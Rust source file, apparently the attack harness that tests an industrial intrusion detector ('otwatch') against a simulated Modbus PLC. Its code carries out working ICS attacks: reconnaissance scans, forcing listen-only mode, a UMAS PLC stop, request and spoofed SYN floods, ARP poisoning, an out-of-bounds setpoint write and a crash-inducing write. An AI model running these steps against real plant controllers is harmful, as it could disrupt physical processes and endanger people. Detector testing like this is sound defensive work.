//! The attack script: what an intruder on the plant network (or on a compromised engineering
//! workstation) does, step by step, each step named with what otwatch should raise.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};
use tokio_modbus::client::{Client, Reader, Writer};
use tokio_modbus::prelude::{ReadCode, Request, Slave, SlaveContext};

use super::crafted;
use super::peers::{Link, ask, connect, connect_tcp, inject};

/// One step of the attack: what it does and the rule it should raise.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Step {
    /// What the step does.
    pub what: &'static str,
    /// The otwatch rule it should raise.
    pub rule: &'static str,
    /// Whether it runs from the engineering workstation (a compromised one) rather than the
    /// intruder's own host.
    pub from_engineering: bool,
}

/// Every step, in order.
pub const STEPS: &[Step] = &[
    Step {
        what: "write the pump coil from a host the policy does not know",
        rule: "policy.unknown_master",
        from_engineering: false,
    },
    Step {
        what: "read device identification (43/14)",
        rule: "recon.read_device_id",
        from_engineering: false,
    },
    Step {
        what: "function-code scan",
        rule: "recon.function_code_scan",
        from_engineering: false,
    },
    Step {
        what: "points-list scan beyond the register map",
        rule: "recon.points_scan",
        from_engineering: false,
    },
    Step {
        what: "unit-id scan",
        rule: "recon.unit_id_scan",
        from_engineering: false,
    },
    Step {
        what: "force listen only mode (8/4)",
        rule: "diag.force_listen_only",
        from_engineering: false,
    },
    Step {
        what: "UMAS stop PLC",
        rule: "program.umas_stop",
        from_engineering: false,
    },
    Step {
        what: "request flood",
        rule: "dos.request_flood",
        from_engineering: false,
    },
    Step {
        what: "SYN flood from spoofed sources",
        rule: "dos.syn_flood",
        from_engineering: false,
    },
    Step {
        what: "ARP poisoning between the HMI and the PLC",
        rule: "spoof.arp",
        from_engineering: false,
    },
    Step {
        what: "high setpoint far beyond the vessel, from the engineering workstation",
        rule: "policy.setpoint_out_of_bounds",
        from_engineering: true,
    },
];

/// A step apart from the script, as it takes the PLC down for [`super::plc::CRASH`]: every
/// master polling it meanwhile sees it fall silent.
pub const CRASH: Step = Step {
    what: "a crafted write that crashes the PLC's firmware",
    rule: "availability.device_unresponsive",
    from_engineering: false,
};

/// Crashes `plc` with one crafted write from `intruder`, checks once that it is gone, and
/// waits until it is back and answering again.
pub async fn crash(intruder: &Link, plc: SocketAddr, say: &(dyn Fn(&Step) + Sync)) {
    if let Ok(mut ctx) = connect(intruder, plc, 1).await {
        say(&CRASH);
        let _ = ask(ctx.write_single_register(super::plc::FRAGILE, 0xDEAD)).await;
        let _ = ask(ctx.read_holding_registers(0, 1)).await;
        drop(ctx);
    }
    sleep(super::plc::CRASH + Duration::from_secs(4)).await;
}

/// Plays every step against `plc`: the intruder's steps from `intruder`, the setpoint change
/// from `engineering`; the ARP poisoning sits between `plc` and the HMI at `hmi`. `say` hears
/// each step as it starts.
pub async fn attack(
    intruder: &Link,
    engineering: &Link,
    plc: SocketAddr,
    hmi: IpAddr,
    say: &(dyn Fn(&Step) + Sync),
) {
    let step = |i: usize| {
        if let Some(s) = STEPS.get(i) {
            say(s);
        }
    };
    if let Ok(mut ctx) = connect(intruder, plc, 1).await {
        step(0);
        let _ = ask(ctx.write_single_coil(0, false)).await;
        step(1);
        let _ = ask(ctx.read_device_identification(ReadCode::Basic, 0)).await;
        step(2);
        for fc in 0x41..0x49u8 {
            let _ = ask(ctx.call(Request::Custom(fc, vec![0x00, 0x00].into()))).await;
        }
        step(3);
        for address in (100..1000).step_by(100) {
            let _ = ask(ctx.read_holding_registers(address, 1)).await;
        }
        step(4);
        for unit in 2..=11u8 {
            ctx.set_slave(Slave(unit));
            let _ = ask(ctx.read_holding_registers(0, 1)).await;
        }
        ctx.set_slave(Slave(1));
        step(5);
        let _ = ask(ctx.call(Request::Custom(0x08, vec![0x00, 0x04, 0x00, 0x00].into()))).await;
        // The PLC is silent for a while: wait for it to come back.
        sleep(super::plc::LISTEN_ONLY + Duration::from_millis(500)).await;
        step(6);
        let _ = ask(ctx.call(Request::Custom(0x5A, vec![0x00, 0x41].into()))).await;
        let _ = ask(ctx.disconnect()).await;
    }
    step(7);
    flood(intruder, plc, 300).await;
    step(8);
    syn_flood(intruder, plc).await;
    step(9);
    poison(intruder, plc.ip(), hmi).await;
    if let Ok(mut ctx) = connect(engineering, plc, 1).await {
        step(10);
        let _ = ask(ctx.write_single_register(0, 5000)).await;
        // Put it back, as the engineer would on noticing.
        let _ = ask(ctx.write_single_register(0, 800)).await;
        let _ = ask(ctx.disconnect()).await;
    }
}

/// 2,000 SYNs to `plc` within about a second, each from another (spoofed) address.
async fn syn_flood(intruder: &Link, plc: SocketAddr) {
    // Into the tap, frames carry each host's own Ethernet address; raw on a veth, the PLC's
    // is not known here, and a broadcast frame reaches the capture all the same (the PLC's
    // stack drops it rather than answering the spoofed sources).
    let plc_mac = match &intruder.tap {
        Some(_) => super::tap::mac(plc.ip()),
        None => [0xff; 6],
    };
    let frames = crafted::syn_flood(plc, plc_mac, 2_000);
    for burst in frames.chunks(200) {
        inject(intruder, burst.to_vec(), Duration::ZERO).await;
        sleep(Duration::from_millis(80)).await;
    }
}

/// Gratuitous ARP replies from the intruder's Ethernet address: first its own address, then
/// the PLC's and the HMI's, as a man in the middle does to both caches.
async fn poison(intruder: &Link, plc: IpAddr, hmi: IpAddr) {
    let (IpAddr::V4(plc), IpAddr::V4(hmi), Some(IpAddr::V4(own))) = (plc, hmi, intruder.bind)
    else {
        return;
    };
    let mac = crafted::INTRUDER_MAC;
    inject(
        intruder,
        vec![crafted::arp_announce(mac, own)],
        Duration::from_millis(300),
    )
    .await;
    for _ in 0..3 {
        let frames = vec![
            crafted::arp_announce(mac, plc),
            crafted::arp_announce(mac, hmi),
        ];
        inject(intruder, frames, Duration::from_millis(300)).await;
    }
    // Put the caches right again, as arpspoof does on leaving: on a real segment the PLC
    // would otherwise answer the HMI and the intruder at an address nobody has.
    let restore: Vec<Vec<u8>> = [own, hmi]
        .into_iter()
        .filter_map(|ip| true_mac(intruder, ip).map(|m| crafted::arp_announce(m, ip)))
        .collect();
    inject(intruder, restore, Duration::from_millis(100)).await;
}

/// The Ethernet address host `ip` on the intruder's side really has: the tap's for it, or
/// the captured interface's (every outside host of the namespace layout sits on it).
fn true_mac(link: &Link, ip: Ipv4Addr) -> Option<[u8; 6]> {
    if link.tap.is_some() {
        return Some(super::tap::mac(IpAddr::V4(ip)));
    }
    let iface = link.wire.as_deref()?;
    let text = std::fs::read_to_string(format!("/sys/class/net/{iface}/address")).ok()?;
    let mut mac = [0u8; 6];
    let mut parts = text.trim().split(':');
    for byte in &mut mac {
        *byte = u8::from_str_radix(parts.next()?, 16).ok()?;
    }
    Some(mac)
}

/// Writes `count` read requests at once, without waiting for answers, then reads what comes.
async fn flood(link: &Link, plc: SocketAddr, count: u16) {
    let Ok(stream) = connect_tcp(link, plc).await else {
        return;
    };
    let mut frames = Vec::with_capacity(usize::from(count) * 12);
    for tid in 0..count {
        frames.extend_from_slice(&tid.to_be_bytes());
        frames.extend_from_slice(&[0, 0, 0, 6, 1, 0x03, 0, 0, 0, 1]);
    }
    let mut buf = vec![0u8; 64 << 10];
    match &link.tap {
        Some(tap) => {
            let Ok(mut s) = tap.wrap(stream) else { return };
            let _ = s.write_all(&frames).await;
            let _ = timeout(
                Duration::from_secs(2),
                drain(&mut s, &mut buf, usize::from(count) * 11),
            )
            .await;
        }
        None => {
            let mut s = stream;
            let _ = s.write_all(&frames).await;
            let _ = timeout(
                Duration::from_secs(2),
                drain(&mut s, &mut buf, usize::from(count) * 11),
            )
            .await;
        }
    }
}

async fn drain<S: AsyncReadExt + Unpin>(s: &mut S, buf: &mut [u8], mut want: usize) {
    while want > 0 {
        match s.read(buf).await {
            Ok(0) | Err(_) => return,
            Ok(n) => want = want.saturating_sub(n),
        }
    }
}
